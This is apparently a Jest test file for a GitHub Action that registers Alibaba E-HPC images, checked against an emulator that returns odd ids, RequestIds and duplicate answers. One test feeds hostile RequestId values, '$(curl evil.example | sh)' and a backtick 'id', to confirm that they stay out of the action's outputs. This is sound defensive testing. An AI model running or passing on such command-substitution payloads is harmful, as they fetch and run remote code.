// dist/index.js against services that answer in ways the API reference leaves open:
// registry URLs handed back normalised, ids with a trailing newline or garbage, a RequestId
// only in the header, a new image listed late, duplicates judged by registry URL.
import {
  DEMO_ACCESS_KEY,
  startEmulator,
  type Emulator,
  type EmulatorOptions
} from '../../emulator/emulator.mjs'
import { runAction } from '../../scripts/lib/run-action.mjs'

const URL_V1 = 'registry.cn-hangzhou.aliyuncs.com/hpc/solver:v1.2.3'

const emulators: Emulator[] = []
async function start(options: EmulatorOptions): Promise<Emulator> {
  const emu = await startEmulator(options)
  emulators.push(emu)
  return emu
}
afterAll(() => Promise.all(emulators.map(e => e.close())))

const inputs = (emu: Emulator, extra: Record<string, string> = {}) => ({
  region: 'cn-hangzhou',
  endpoint: emu.url,
  'access-key-id': DEMO_ACCESS_KEY.accessKeyId,
  'access-key-secret': DEMO_ACCESS_KEY.accessKeySecret,
  name: 'solver',
  'registry-url': URL_V1,
  ...extra
})

describe('a registry URL that GetImage hands back normalised', () => {
  it.each([
    ['expanded', 'Registry.CN-Hangzhou.aliyuncs.com/hpc/solver'],
    ['expanded', 'docker.io/octo/solver'],
    ['familiar', 'docker.io/library/ubuntu:22.04'],
    ['familiar', 'index.docker.io/octo/solver']
  ] as const)('%s: a re-run with %s reuses the image', async (echo, registryUrl) => {
    const emu = await start({ registryUrlEcho: echo })
    const first = await runAction(inputs(emu, { 'registry-url': registryUrl }))
    const second = await runAction(inputs(emu, { 'registry-url': registryUrl }))
    expect(second.errors).toEqual([])
    expect([first.code, second.code]).toEqual([0, 0])
    expect(second.outputs).toMatchObject({
      created: 'false',
      'image-id': first.outputs['image-id']
    })
    expect(second.stdout).not.toContain('::warning::')
    expect(emu.images()).toHaveLength(1)
  })

  it('a different tag still fails, even normalised', async () => {
    const emu = await start({ registryUrlEcho: 'expanded' })
    emu.seedImage({
      Name: 'solver',
      Version: 'v1.2.3',
      ImageType: 'Container',
      ContainerImageSpec: { RegistryUrl: 'Registry.CN-Hangzhou.aliyuncs.com/hpc/solver' }
    })
    const run = await runAction(inputs(emu))
    expect(run.code).toBe(1)
    expect(run.errors[0]).toContain(
      'points at registry.cn-hangzhou.aliyuncs.com/hpc/solver:latest, not at registry.cn-hangzhou.aliyuncs.com/hpc/solver:v1.2.3'
    )
  })
})

describe('ids in answers', () => {
  it('an id and a version with a trailing newline are trimmed, and a re-run finds the image', async () => {
    const emu = await start({ imageIdNoise: { AddImage: 'newline', ListImages: 'newline' } })
    const first = await runAction(inputs(emu))
    expect(first.errors).toEqual([])
    const [stored] = emu.images()
    expect(first.outputs['image-id']).toBe(stored.ImageId)
    expect(first.outputFile).toContain(`image-id<<`)
    expect(first.outputFile.split(stored.ImageId)[1]).toMatch(/^\n[^\n]/)
    expect(first.summary).toContain(`<td>Image ID</td><td>${stored.ImageId}</td>`)
    const second = await runAction(inputs(emu))
    expect(second.errors).toEqual([])
    expect(second.outputs).toMatchObject({ created: 'false', 'image-id': stored.ImageId })
  })

  it('an AddImage answer whose id is garbage is not an output: the lookup finds the registered image', async () => {
    const emu = await start({ imageIdNoise: { AddImage: 'garbage' } })
    const run = await runAction(inputs(emu))
    expect(run.errors).toEqual([])
    const [stored] = emu.images()
    expect(run.outputs).toMatchObject({ 'image-id': stored.ImageId, created: 'true' })
    expect(run.stdout).toContain('AddImage ended without a clear answer (InvalidResponse)')
    expect(run.outputFile).not.toContain('(creating)')
    expect(emu.requests.map(r => r.action)).toEqual([
      'ListImages',
      'AddImage',
      'ListImages',
      'GetImage'
    ])
  })

  it('garbage ids everywhere fail the run with InvalidResponse and output no image-id', async () => {
    const emu = await start({ imageIdNoise: { AddImage: 'garbage', ListImages: 'garbage' } })
    emu.seedImage({ Name: 'solver', Version: 'v0.9', ImageType: 'Container' })
    const run = await runAction(inputs(emu))
    expect(run.code).toBe(1)
    expect(run.errors).toHaveLength(1)
    expect(run.errors[0]).toMatch(/ListImages failed: .*code InvalidResponse/)
    expect(run.errors[0]).toMatch(/ImageId "m-[a-z0-9]{20} \(creating\)" is not an image id/)
    expect(run.outputs['image-id']).toBeUndefined()
    expect(emu.count('AddImage')).toBe(0)
  })
})

describe('a RequestId only in the x-acs-request-id header', () => {
  it('is the request-id output and in the summary', async () => {
    const emu = await start({ requestIdIn: 'header' })
    const run = await runAction(inputs(emu))
    expect(run.errors).toEqual([])
    const requestId = emu.requests.find(r => r.action === 'AddImage')?.requestId
    expect(requestId).toMatch(/^[0-9A-F-]{36}$/)
    expect(run.outputs['request-id']).toBe(requestId)
    expect(run.summary).toContain(`<td>Request ID</td><td>${requestId}</td>`)
  })
})

describe('ImageAlreadyExists that the lookup by name and version does not explain at once', () => {
  const env = { EHPC_ADD_IMAGE_RETRY_BASE_MS: '100' }

  it('a new image listed late is found by a second look, and reused', async () => {
    const emu = await start({ listLag: 2 })
    const existing = emu.seedImage({
      Name: 'solver',
      Version: 'v1.2.3',
      ImageType: 'Container',
      ContainerImageSpec: { RegistryUrl: URL_V1 }
    })
    const run = await runAction(inputs(emu), { env })
    expect(run.errors).toEqual([])
    expect(run.outputs).toMatchObject({ 'image-id': existing.ImageId, created: 'false' })
    expect(run.stdout).toContain('ListImages does not show it yet; looking again in 300 ms.')
    expect(emu.requests.map(r => r.action)).toEqual([
      'ListImages',
      'AddImage',
      'ListImages',
      'ListImages',
      'GetImage'
    ])
    const lists = emu.requests.filter(r => r.action === 'ListImages')
    expect(lists[2].time - lists[1].time).toBeGreaterThanOrEqual(300)
  })

  it('after an unanswered AddImage of this run, listed late: says that attempt may have registered it', async () => {
    const emu = await start({ listLag: 4 })
    emu.fault('AddImage', { kind: 'performThenReset' })
    const run = await runAction({ ...inputs(emu), 'max-attempts': '3' }, { env })
    expect(run.code).toBe(1)
    expect(emu.images()).toHaveLength(1)
    expect(run.errors).toHaveLength(1)
    expect(run.errors[0]).toContain('the unanswered attempt most likely registered it')
    expect(run.errors[0]).not.toContain('Nothing was registered')
    expect(run.summary).toContain('Unknown: AddImage got no clear answer and may have registered')
  })

  it('a duplicate by registry URL under another name fails, saying what to look for', async () => {
    const emu = await start({ duplicates: 'target' })
    emu.seedImage({
      Name: 'solver-legacy',
      Version: 'v1',
      ImageType: 'Container',
      ContainerImageSpec: { RegistryUrl: URL_V1 }
    })
    const run = await runAction(inputs(emu), { env })
    expect(run.code).toBe(1)
    expect(run.errors).toHaveLength(1)
    const [message] = run.errors
    const addImage = emu.requests.find(r => r.action === 'AddImage')
    expect(message).toContain(
      `AddImage answered ImageAlreadyExists (RequestId ${addImage?.requestId})`
    )
    expect(message).toContain(
      'E-HPC Instant considers the image a duplicate of one the action cannot find by name and version'
    )
    expect(message).toContain('Nothing was registered.')
    expect(message).toContain(
      `Check for an image with the same registry URL (${URL_V1}) under another name or version`
    )
    expect(emu.requests.map(r => r.action)).toEqual([
      'ListImages',
      'AddImage',
      'ListImages',
      'ListImages'
    ])
    expect(emu.images()).toHaveLength(1)
  })

  it('a VM image: the message names the ECS image', async () => {
    const emu = await start({ duplicates: 'target' })
    emu.seedImage({ Name: 'other', Version: 'v1', VMImageSpec: { ImageId: 'm-bp1abc' } })
    const run = await runAction(
      inputs(emu, { 'registry-url': '', 'image-type': 'VM', 'vm-image-id': 'm-bp1abc' }),
      { env }
    )
    expect(run.code).toBe(1)
    expect(run.errors[0]).toContain(
      'Check for an image with the same ECS image (m-bp1abc) under another name or version'
    )
  })
})

describe('a RequestId that is not of the shape of one', () => {
  it.each([['$(curl evil.example | sh)'], ['`id`'], ['abc def']])(
    'AddImage answered RequestId %j: the image id is output, request-id is not, and a warning says why',
    async requestId => {
      const emu = await start({})
      emu.fault('AddImage', {
        kind: 'raw',
        status: 200,
        contentType: 'application/json',
        body: JSON.stringify({
          RequestId: requestId,
          ImageId: 'm-forgedrequestid01',
          Success: true
        }),
        requestIdHeader: false
      })
      const r = await runAction(inputs(emu))
      expect(r.errors).toEqual([])
      expect(r.code).toBe(0)
      expect(r.outputs['image-id']).toBe('m-forgedrequestid01')
      expect(r.outputs).not.toHaveProperty('request-id')
      expect(r.outputFile).not.toContain(requestId)
      const warnings = r.annotations.filter(a => a.kind === 'warning').map(a => a.message)
      expect(warnings.join('\n')).toMatch(
        /is not of the shape of one .*request-id output is left unset/
      )
    }
  )
})
